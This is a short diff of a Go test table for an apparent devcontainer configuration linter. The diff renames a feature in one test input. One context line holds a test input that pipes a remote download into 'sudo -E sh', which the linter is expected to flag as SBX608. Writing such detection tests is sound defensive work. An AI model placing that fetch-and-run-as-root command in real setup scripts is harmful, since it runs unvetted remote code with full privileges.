@@ -90,7 +90,7 @@ func TestVariants(t *testing.T) {
 		{"no version", image(`"features": {"ghcr.io/a/b/c": {}}`), "SBX603"},
 		{"digest of a Feature", image(`"features": {"ghcr.io/a/b/c@` + digest + `": {}}`), ""},
 		{"registry with a port", image(`"features": {"localhost:5000/a/b:1.2.3": {}}`), ""},
-		{"bare name", image(`"features": {"go": "latest"}`), "SBX604"},
+		{"bare name", image(`"features": {"golang": "latest"}`), "SBX604"},
 		{"release of a repository", image(`"features": {"owner/repo/go": {}}`), "SBX604"},
 		{"tarball", image(`"features": {"https://example.com/devcontainer-feature-go.tgz": {}}`), ""},
 		{"pipe to sh as root", image(`"onCreateCommand": "wget -qO- https://x | sudo -E sh -s -- -y"`), "SBX608"},
